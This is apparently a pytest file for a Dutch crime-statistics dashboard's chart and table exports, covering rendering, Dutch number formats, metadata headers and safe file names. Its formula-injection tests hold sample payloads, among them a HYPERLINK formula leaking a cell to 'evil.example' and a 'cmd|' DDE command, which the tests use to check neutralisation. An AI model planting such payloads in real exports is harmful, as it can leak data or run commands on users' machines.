"""Exports of charts (PNG/SVG, rendered offline) and tables (CSV/XLSX with a metadata header)."""

from __future__ import annotations

import codecs
import csv
import dataclasses
import datetime as dt
import html
import io
import json
import re

import altair as alt
import openpyxl
import pandas as pd
import pytest
from PIL import Image

from ivpdata import charts, exports

META = exports.Metadata(
    title="Woninginbraak per buurt",
    source="Politie, geregistreerde criminaliteit",
    period="januari 2024 t/m december 2025",
    filters={"Gemeente": "Dordrecht", "Niveau": "buurt"},
    provisional="ja, 2025-10 t/m 2025-12 voorlopig",
    demo=True,
    disclosure="Openbaar: aantallen onder 5 als '< 5'",
    created=dt.datetime(2026, 11, 22, 14, 5),
)


def _monthly(months: int = 24, start: int = 1234) -> pd.DataFrame:
    """Shaped like queries' monthly series of one area (the input of charts.area_trend_chart)."""
    month_start = pd.date_range("2024-01-01", periods=months, freq="MS")
    return pd.DataFrame(
        {
            "month_start": month_start.date,
            "incident_count": [start + 10 * i for i in range(months)],
            "is_provisional": [i >= months - 3 for i in range(months)],
        }
    )


def _area_chart() -> alt.TopLevelMixin:
    return charts.area_trend_chart(_monthly(), "Woninginbraak Dordrecht")


def _texts(svg: bytes) -> list[str]:
    return [html.unescape(t) for t in re.findall(r"<text[^>]*>([^<]*)</text>", svg.decode("utf-8"))]


def _table() -> pd.DataFrame:
    """Ints, one-decimal floats, dates, text, and a count hidden as '< 5' by the disclosure rules."""
    return pd.DataFrame(
        {
            "Buurt": ["Centrum", "Reeweg", "Crabbehof", "Sterrenburg"],
            "Jaar": [2024, 2024, 2025, 2025],
            "Aantal": [1234, "< 5", 17, "x"],
            "Per 1.000 inwoners": [12.5, 0.3, 1234.5, -2.0],
            "Maand": pd.to_datetime(["2024-01-01", "2024-02-01", "2025-03-01", "2025-12-01"]),
            "Voorlopig": [False, False, True, True],
        }
    )


# --- charts -------------------------------------------------------------------------------------


def test_png_is_a_white_picture_with_a_drawn_chart():
    raw = exports.chart_png(_area_chart(), scale=2)
    image = Image.open(io.BytesIO(raw))
    assert image.format == "PNG"
    # "container" width becomes a fixed width, doubled by scale 2
    assert image.width >= exports.CONTAINER_WIDTH * 2
    assert 300 <= image.height <= image.width
    rgb = image.convert("RGBA")
    assert rgb.getpixel((0, 0)) == (255, 255, 255, 255), "background must be opaque white, not transparent"
    drawn = sum(rgb.convert("L").histogram()[:200]) / (image.width * image.height)
    assert 0.005 < drawn < 0.5, f"{drawn:.1%} dark pixels"
    smaller = Image.open(io.BytesIO(exports.chart_png(_area_chart(), scale=1)))
    assert abs(image.width - 2 * smaller.width) <= 2


def test_svg_shows_title_and_dutch_numbers():
    texts = _texts(exports.chart_svg(_area_chart()))
    assert "Woninginbraak Dordrecht" in texts
    thousands = [t for t in texts if re.fullmatch(r"\d{1,3}(\.\d{3})+", t)]
    assert thousands, f"no Dutch thousands ('1.200') among {texts}"
    assert not [t for t in texts if re.fullmatch(r"\d{1,3}(,\d{3})+", t)], "English thousands separator"


def test_svg_shows_dutch_decimals_and_month_names():
    months = pd.date_range("2024-01-01", periods=12, freq="MS")
    data = pd.DataFrame(
        {"Reeks": "Dordrecht", "Periode": months, "Waarde": [1.05 + i / 20 for i in range(12)], "is_provisional": False}
    )
    no_lockdowns = pd.DataFrame({"name": [], "start": [], "end": []})
    no_markers = pd.DataFrame({"Datum": [], "Maatregel": []})
    chart = charts.trend_chart(data, "Overlast per 1.000", "Per 1.000 inwoners", ",.1f", no_lockdowns, no_markers)
    texts = _texts(exports.chart_svg(chart))
    assert any(re.fullmatch(r"\d+,\d", t) for t in texts), f"no decimal comma among {texts}"
    assert not any(re.fullmatch(r"\d+\.\d", t) for t in texts)
    months_shown = " ".join(texts)
    assert "mrt 2024" in months_shown or "okt 2024" in months_shown or "mei 2024" in months_shown, texts
    assert "Oct" not in months_shown and "Mar" not in months_shown


def test_a_chart_without_dutch_config_is_still_dutch_and_white():
    data = pd.DataFrame({"Aantal": [1200.5, 3400.25], "Maand": pd.to_datetime(["2024-03-01", "2024-10-01"])})
    chart = (
        alt.Chart(data)
        .mark_point()
        .encode(x=alt.X("Maand:T", axis=alt.Axis(format="%b %Y")), y=alt.Y("Aantal:Q", axis=alt.Axis(format=",.1f")))
        .configure(background="transparent")
    )
    texts = _texts(exports.chart_svg(chart))
    assert "1.000,0" in texts or "2.000,0" in texts, texts
    assert any(t.startswith(("mrt", "okt")) for t in texts), texts
    corner = Image.open(io.BytesIO(exports.chart_png(chart, scale=1))).convert("RGBA").getpixel((0, 0))
    assert corner == (255, 255, 255, 255)


def test_meta_adds_a_source_line_and_keeps_the_chart():
    plain = Image.open(io.BytesIO(exports.chart_png(_area_chart(), scale=1)))
    with_meta = Image.open(io.BytesIO(exports.chart_png(_area_chart(), scale=1, meta=META)))
    assert with_meta.height > plain.height
    texts = _texts(exports.chart_svg(_area_chart(), meta=META))
    assert "Woninginbraak Dordrecht" in texts
    footer = next(t for t in texts if t.startswith("Bron:"))
    assert META.source in footer and META.period in footer and "Demodata" in footer
    real = dataclasses.replace(META, demo=False, provisional="nee")
    final = charts.area_trend_chart(_monthly().assign(is_provisional=False), "Woninginbraak Dordrecht")
    real_footer = next(t for t in _texts(exports.chart_svg(final, meta=real)) if t.startswith("Bron:"))
    assert "Demodata" not in real_footer and "voorlopig" not in real_footer


def test_layered_faceted_and_concatenated_charts_render():
    assessed = pd.DataFrame(
        {
            "indicator_name": ["Woninginbraken", "Jeugdoverlast"],
            "unit": ["aantal", "per 1.000"],
            "actual": [1120.0, 12.5],
            "margin": [40.0, 1.2],
            "baseline_value": [1500.0, 15.0],
            "target_value": [1000.0, 10.0],
            "trajectory": [1250.0, 12.0],
            "status": ["op koers", "achter"],
            "year": [2025, 2025],
        }
    )
    bullets = charts.bullet_chart(assessed, {"op koers": "#1a9850", "achter": "#d73027"})  # facet of layers
    texts = _texts(exports.chart_svg(bullets, meta=META))
    assert "Woninginbraken (aantal)" in texts
    assert META.title in texts, "a chart without a title gets the export's title"
    monthly = _monthly().assign(Maand=lambda f: pd.to_datetime(f["month_start"]))

    def line(title: str) -> alt.Chart:
        return alt.Chart(monthly).mark_line().encode(x="Maand:T", y="incident_count:Q").properties(title=title)

    concatenated = charts.dutch(alt.hconcat(line("Links"), line("Rechts")))
    texts = _texts(exports.chart_svg(concatenated, meta=META))
    assert {"Links", "Rechts"} <= set(texts)
    image = Image.open(io.BytesIO(exports.chart_png(concatenated, scale=1)))
    assert image.width > image.height


def test_nothing_is_fetched_from_the_network():
    spec = exports.chart_spec(_area_chart(), meta=META)
    assert '"url"' not in json.dumps(spec), "every data set must be inline"
    assert "container" not in str(spec)
    remote = alt.Chart("https://example.com/misdrijven.csv").mark_point().encode(x="a:Q")
    with pytest.raises(ValueError, match="inline"):
        exports.chart_png(remote)


@pytest.mark.parametrize(
    ("schema", "expected"),
    [
        ("https://vega.github.io/schema/vega-lite/v6.4.1.json", "6.4"),
        ("https://vega.github.io/schema/vega-lite/v5.17.0.json", "5.17"),
        ("https://vega.github.io/schema/vega-lite/v5.18.1.json", "5.17"),  # newest bundled, not newer
        ("", None),
    ],
)
def test_vega_lite_version_follows_the_schema(schema, expected):
    assert exports.vl_version(schema) == expected


# --- tables -------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["woninginbraak.csv", "woninginbraak.xlsx"])
def test_table_exports_parse_back_to_the_same_numbers(name):
    frame = _table()
    export = exports.table_csv if name.endswith(".csv") else exports.table_xlsx
    meta, back = exports.read_export(export(frame, META), name)
    assert meta == dict(META.rows())
    pd.testing.assert_frame_equal(back, frame)
    assert back.loc[1, "Aantal"] == "< 5" and back.loc[0, "Aantal"] == 1234


@pytest.mark.parametrize("name", ["gaten.csv", "gaten.xlsx"])
def test_missing_values_stay_missing(name):
    frame = pd.DataFrame(
        {
            "Aantal": pd.array([3, None, 12], dtype="Int64"),
            "Gemiddeld": [2.25, float("nan"), 3.0],
            "Maand": pd.to_datetime(["2024-01-01", None, "2024-03-01"]),
            "Toelichting": ["", "nieuw; met puntkomma", 'met "aanhalingstekens"\nen een regel'],
        }
    )
    export = exports.table_csv if name.endswith(".csv") else exports.table_xlsx
    _, back = exports.read_export(export(frame, META), name)
    pd.testing.assert_frame_equal(back.iloc[:, :3], frame.iloc[:, :3])
    assert list(back["Toelichting"])[1:] == list(frame["Toelichting"])[1:]


def test_csv_is_what_dutch_excel_and_plain_pandas_expect():
    raw = exports.table_csv(_table(), META)
    assert raw.startswith(codecs.BOM_UTF8)
    text = raw.decode("utf-8-sig")
    assert text.splitlines()[0].startswith("Titel;")
    assert ";12,5;" in text and "1234,5" in text
    plain = pd.read_csv(io.BytesIO(raw), sep=";", decimal=",", skiprows=len(META.rows()) + 1)
    assert list(plain.columns) == list(_table().columns)
    assert list(plain["Per 1.000 inwoners"]) == list(_table()["Per 1.000 inwoners"])
    assert list(plain["Jaar"]) == list(_table()["Jaar"])
    assert list(plain["Aantal"]) == ["1234", "< 5", "17", "x"]


def test_xlsx_stores_numbers_dates_and_text_as_such():
    book = openpyxl.load_workbook(io.BytesIO(exports.table_xlsx(_table(), META)))
    assert book.sheetnames == ["Gegevens"]
    sheet = book["Gegevens"]
    header = len(META.rows()) + 2
    assert [sheet.cell(i, 1).value for i in range(1, header - 1)] == [label for label, _ in META.rows()]
    assert sheet.cell(1, 1).font.bold and not sheet.cell(1, 2).font.bold
    assert sheet.cell(header - 1, 1).value is None
    assert sheet.cell(header, 3).value == "Aantal" and sheet.cell(header, 3).font.bold
    assert sheet.freeze_panes == f"A{header + 1}"
    first = header + 1
    count, hidden, rate, month = (sheet.cell(first + r, c) for r, c in ((0, 3), (1, 3), (0, 4), (0, 5)))
    assert count.value == 1234 and isinstance(count.value, int) and count.number_format == "#,##0"
    assert hidden.value == "< 5" and hidden.data_type == "s"
    assert rate.value == 12.5 and rate.number_format == "#,##0.0"
    assert month.value == dt.datetime(2024, 1, 1) and month.number_format == "dd-mm-yyyy"
    assert sheet.cell(first, 2).number_format == "0", "a year shows as 2024, not 2.024"
    assert sheet.column_dimensions["D"].width >= len("Per 1.000 inwoners")


def test_metadata_rows_are_dutch_and_complete():
    rows = dict(META.rows())
    assert list(rows) == [
        "Titel",
        "Bron",
        "Periode",
        "Filters",
        "Voorlopige cijfers",
        "Gegevens",
        "Onthullingsregels",
        "Gemaakt op",
    ]
    assert rows["Filters"] == "Gemeente: Dordrecht; Niveau: buurt"
    assert rows["Gegevens"] == "demodata (gegenereerd)"
    assert rows["Gemaakt op"] == "22-11-2026 14:05"
    real = dataclasses.replace(META, demo=False, filters={}, disclosure="Intern:\nexact")
    assert dict(real.rows())["Gegevens"] == "echte cijfers"
    assert dict(real.rows())["Filters"] == "geen"
    assert dict(real.rows())["Onthullingsregels"] == "Intern: exact", "one line, so skiprows counts lines"


def test_a_named_index_is_exported_as_columns():
    frame = _table().set_index(["Buurt", "Jaar"])
    _, back = exports.read_export(exports.table_csv(frame, META), "x.csv")
    pd.testing.assert_frame_equal(back, _table())


def test_read_export_refuses_other_files():
    with pytest.raises(ValueError, match="csv"):
        exports.read_export(b"%PDF-1.7", "briefing.pdf")


@pytest.mark.parametrize(
    ("parts", "ext", "expected"),
    [
        (("kaart", "GM0505", "buurt", "2025"), "xlsx", "kaart_GM0505_buurt_2025.xlsx"),
        (("Overlast / jeugd", "Crabbehof-Zuid", "café"), ".csv", "Overlast_jeugd_Crabbehof-Zuid_cafe.csv"),
        (("../../etc", ""), "png", "etc.png"),
        ((), "svg", "export.svg"),
    ],
)
def test_file_names_are_safe_and_readable(parts, ext, expected):
    assert exports.file_name(*parts, ext=ext) == expected


# --- formulas (CSV/formula injection) -----------------------------------------------------------

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1;"klik hier")'
FORMULA_TEXTS = [HYPERLINK, "+SUM(1;2)", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "'=al gequote"]


def _hostile_table() -> pd.DataFrame:
    """Imported texts that a spreadsheet would run as formulas, next to numbers and signed changes."""
    n = len(FORMULA_TEXTS)
    return pd.DataFrame(
        {
            "Maatregel": FORMULA_TEXTS,
            "Verschil": [-5, 3, 0, -12, 7, 1, 2][:n],
            "Verandering": ["-58%", "+25%", "+1,5%", "-0,3%", "0%", "-12%", "+1.234"][:n],
            "Per 1.000 inwoners": [-2.5, 1.0, 0.25, -0.5, 3.0, 4.5, 6.0][:n],
        }
    )


def _starts_like_a_formula(text: str) -> bool:
    return text[:1] in ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize("name", ["injectie.csv", "injectie.xlsx"])
def test_formula_like_texts_are_neutralised_and_read_back(name):
    frame = _hostile_table()
    meta = dataclasses.replace(META, title=HYPERLINK, filters={"Maatregel": "@SUM(A1)"})
    export = exports.table_csv if name.endswith(".csv") else exports.table_xlsx
    raw = export(frame, meta)
    if name.endswith(".csv"):
        cells = [cell for row in csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";") for cell in row]
    else:
        sheet = openpyxl.load_workbook(io.BytesIO(raw))["Gegevens"]
        assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"], "live formulas"
        cells = [c.value for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
        numbers = [c.value for c in sheet["B"] if isinstance(c.value, int | float)]
        assert -5 in numbers and -12 in numbers, "a negative number stays a number"
    risky = [c for c in cells if _starts_like_a_formula(c)]
    # What still starts with a sign: numbers, and signed changes such as '-58%' (sign, digits, separators, %)
    assert all(re.fullmatch(r"[-+][\d.,]+%?", c) for c in risky), risky
    assert "'" + HYPERLINK in cells and "'@SUM(A1:A2)" in cells and "''=al gequote" in cells
    assert "-58%" in cells and "+25%" in cells, "signed changes stay readable"
    read_meta, back = exports.read_export(raw, name)
    assert read_meta["Titel"] == HYPERLINK and read_meta["Filters"] == "Maatregel: @SUM(A1)"
    # XML (inside XLSX) gives a carriage return back as a line feed
    assert list(back["Maatregel"]) == [t.replace("\r", "\n") if name.endswith(".xlsx") else t for t in FORMULA_TEXTS]
    assert list(back["Verschil"]) == list(frame["Verschil"]) and list(back["Verandering"]) == list(frame["Verandering"])
    assert list(back["Per 1.000 inwoners"]) == list(frame["Per 1.000 inwoners"])


def test_a_formula_like_column_name_is_neutralised():
    frame = pd.DataFrame({"=1+1": ["a"], "Aantal": [3]})
    raw = exports.table_csv(frame, META)
    assert "\r\n'=1+1;Aantal\r\n" in raw.decode("utf-8-sig")
    _, back = exports.read_export(raw, "x.csv")
    assert list(back.columns) == ["=1+1", "Aantal"]
    sheet = openpyxl.load_workbook(io.BytesIO(exports.table_xlsx(frame, META)))["Gegevens"]
    header = len(META.rows()) + 2
    assert sheet.cell(header, 1).value == "'=1+1" and sheet.cell(header, 1).data_type == "s"


# --- what the header says agrees with the rows ---------------------------------------------------


@pytest.mark.parametrize("name", ["trend.csv", "trend.xlsx"])
def test_the_header_says_provisional_when_rows_are(name):
    """A Trends export whose last months are marked 'Voorlopig: ja' while the page passed no
    provisional status: the header must not say 'nee'."""
    frame = pd.DataFrame(
        {
            "Periode": pd.to_datetime(["2025-09-01", "2025-10-01", "2025-11-01"]),
            "Aantal": [41, 38, 44],
            "Voorlopig": ["nee", "ja", "ja"],
        }
    )
    unstated = dataclasses.replace(META, provisional="nee")
    export = exports.table_csv if name.endswith(".csv") else exports.table_xlsx
    meta, _ = exports.read_export(export(frame, unstated), name)
    assert meta["Voorlopige cijfers"].startswith("ja"), meta["Voorlopige cijfers"]
    assert "2 rijen" in meta["Voorlopige cijfers"]
    final = frame.assign(Voorlopig="nee")
    claimed = exports.read_export(export(final, META), name)[0]  # META says "ja" but no row is provisional
    assert claimed["Voorlopige cijfers"] == "nee"
    stated = exports.read_export(export(frame, META), name)[0]
    assert stated["Voorlopige cijfers"] == META.provisional, "a stated status that agrees is kept word for word"


def test_a_chart_with_provisional_months_says_so_below_it():
    unstated = dataclasses.replace(META, provisional="nee")
    footer = next(t for t in _texts(exports.chart_svg(_area_chart(), meta=unstated)) if t.startswith("Bron:"))
    assert "deels voorlopige cijfers" in footer


# --- counts are whole numbers ---------------------------------------------------------------------


def _kaart_table() -> pd.DataFrame:
    """As the Kaart's table comes from DuckDB: counts summed into float columns."""
    return pd.DataFrame(
        {
            "Gebied": ["Wielwijk", "Crabbehof", "Reeweg"],
            "Aantal": [8.0, 1234.0, 0.0],
            "Vergelijkingsperiode": [5.0, float("nan"), 2.0],
            "Per 1.000 inwoners": [2.5, 12.25, 3.0],
        }
    )


def test_counts_are_whole_numbers_in_a_csv():
    text = exports.table_csv(_kaart_table(), META).decode("utf-8-sig")
    rows = text.split("\r\n\r\n", 1)[1].splitlines()
    assert rows[1] == "Wielwijk;8;5;2,5", rows
    assert rows[2] == "Crabbehof;1234;;12,25"
    assert rows[3] == "Reeweg;0;2;3"
    assert not re.search(r";\d+,0(;|$)", text), "a whole number with ',0'"
    _, back = exports.read_export(text.encode("utf-8-sig"), "kaart.csv")
    assert list(back["Aantal"]) == [8, 1234, 0] and back["Per 1.000 inwoners"].tolist() == [2.5, 12.25, 3.0]


def test_counts_are_whole_numbers_in_a_workbook():
    sheet = openpyxl.load_workbook(io.BytesIO(exports.table_xlsx(_kaart_table(), META)))["Gegevens"]
    first = len(META.rows()) + 3
    count, rate, whole_rate = sheet.cell(first, 2), sheet.cell(first, 4), sheet.cell(first + 2, 4)
    assert count.value == 8 and isinstance(count.value, int) and count.number_format == "#,##0"
    assert rate.value == 2.5 and rate.number_format == "#,##0.00"
    assert whole_rate.value == 3 and whole_rate.number_format == "#,##0", "3, not 3,00"
    _, back = exports.read_export(exports.table_xlsx(_kaart_table(), META), "kaart.xlsx")
    assert list(back["Aantal"]) == [8, 1234, 0]


def test_the_charts_exported_and_drawn_are_valid_vega_lite():
    """The app converts charts without Altair's schema check (it costs ~0.5 s for a map); the
    builders' specs are checked here and in their own tests instead (to_dict validates)."""
    for chart in (_area_chart(), charts.for_screen(_area_chart()), charts.dutch(_area_chart())):
        chart.to_dict(validate=True)
